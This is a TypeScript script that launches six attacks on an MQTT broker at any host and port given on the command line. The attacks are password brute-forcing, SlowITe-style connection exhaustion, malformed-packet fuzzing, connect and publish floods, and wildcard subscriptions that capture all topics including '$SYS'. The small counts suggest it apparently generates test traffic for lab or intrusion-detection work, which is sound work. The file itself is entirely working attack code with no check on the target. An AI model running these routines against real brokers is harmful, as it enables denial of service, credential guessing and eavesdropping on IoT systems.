// Attacks on an MQTT broker, from plain sockets: `node mqtt-attacks.js KIND HOST PORT [USER PASSWORD]`.
import { connect, type Socket } from "node:net";
import { connectPacket, field, packet, publishPacket, subscribePacket, uint16 } from "../mqtt-bytes.js";

const [, , kind = "", host = "", port = "1883", username = "", password = ""] = process.argv;

async function open(): Promise<Socket> {
  const socket = connect(Number(port), host);
  socket.on("error", () => {});
  await new Promise((resolve) => socket.once("connect", resolve).once("close", resolve));
  return socket;
}

const pause = (ms: number) => new Promise<void>((resolve) => setTimeout(resolve, ms));

/** The broker's next bytes, or undefined where it closed instead. */
function answer(socket: Socket): Promise<Buffer | undefined> {
  return new Promise((resolve) => {
    socket.once("data", resolve);
    socket.once("close", () => resolve(undefined));
  });
}

async function closed(socket: Socket): Promise<void> {
  socket.resume();
  if (!socket.closed) await new Promise((resolve) => socket.once("close", resolve));
}

/** Guesses passwords, one connection each, as dictionary tools do. */
async function bruteForce(): Promise<void> {
  for (let guess = 0; guess < 60; guess++) {
    const socket = await open();
    socket.write(connectPacket({ clientId: `guess-${guess}`, username: "house", password: `password${guess}` }));
    await answer(socket);
    socket.destroy();
  }
}

/** Holds connections that say CONNECT with the longest keep-alive and then nothing (Vaccari et al. 2020). */
async function slowIte(): Promise<void> {
  const sockets: Socket[] = [];
  for (let count = 0; count < 150; count++) {
    const socket = await open();
    sockets.push(socket);
    const hello = connectPacket({ clientId: `slow-${count}`, keepalive: 65_535, username, password });
    // Half of them never end their CONNECT packet.
    socket.write(count % 2 === 0 ? hello : hello.subarray(0, 12));
    await pause(40);
  }
  await pause(8000);
  for (const socket of sockets) socket.destroy();
}

/** Packets that break the standard in ways a fuzzer's do. */
async function malformed(): Promise<void> {
  const hello = connectPacket({ clientId: "odd", username, password });
  const broken: Buffer[] = [
    Buffer.from([0x10, 0xff, 0xff, 0xff, 0xff, 0x01]),
    connectPacket({ clientId: "odd", protocol: "MQXX" }),
    connectPacket({ clientId: "odd", flags: 0x03 }),
    Buffer.concat([hello, hello]),
    Buffer.concat([hello, packet(0x36, field("a"), uint16(1))]),
    Buffer.concat([hello, packet(0x80, uint16(7), field("a"), Buffer.from([0]))]),
    Buffer.concat([hello, packet(0x32, field("home/+/x"), uint16(0))]),
    Buffer.concat([hello, packet(0x30, uint16(200), Buffer.from("short"))]),
    Buffer.from([0x00, 0x00]),
    Buffer.from([0xf0, 0x00]),
    publishPacket("before/connect", "x"),
    connectPacket({ clientId: Buffer.from([0xc3, 0x28]) }),
  ];
  for (let round = 0; round < 4; round++) {
    for (const bytes of broken) {
      const socket = await open();
      socket.write(bytes);
      await Promise.race([closed(socket), pause(100)]);
      socket.destroy();
    }
  }
}

/** Logs in and goes away again as fast as it can. */
async function connectFlood(): Promise<void> {
  const end = Date.now() + 3000;
  const one = async (lane: number) => {
    for (let count = 0; Date.now() < end; count++) {
      const socket = await open();
      socket.write(connectPacket({ clientId: `flood-${lane}-${count}`, username, password }));
      await answer(socket);
      socket.destroy();
    }
  };
  await Promise.all([1, 2, 3, 4].map(one));
}

/** Publishes some 20,000 messages a second for two seconds. */
async function publishFlood(): Promise<void> {
  const socket = await open();
  socket.write(connectPacket({ clientId: "flood", username, password }));
  await answer(socket);
  const end = Date.now() + 2000;
  for (let count = 0; Date.now() < end && !socket.destroyed; count++) {
    socket.write(publishPacket(`home/flood/${count % 10}`, "x".repeat(64)));
    if (count % 200 === 0) await pause(10);
  }
  socket.end();
}

/** Listens to everything there is. */
async function wildcard(): Promise<void> {
  const socket = await open();
  socket.write(connectPacket({ clientId: "listener", username, password }));
  await answer(socket);
  socket.write(subscribePacket("#"));
  socket.resume();
  await pause(3000);
  socket.write(subscribePacket("$SYS/#"));
  await pause(1000);
  socket.end();
}

const attacks: Record<string, () => Promise<void>> = {
  "brute-force": bruteForce,
  slowite: slowIte,
  malformed,
  "connect-flood": connectFlood,
  "publish-flood": publishFlood,
  wildcard,
};

const attack = attacks[kind];
if (!attack) throw new Error(`no MQTT attack "${kind}"`);
void attack();
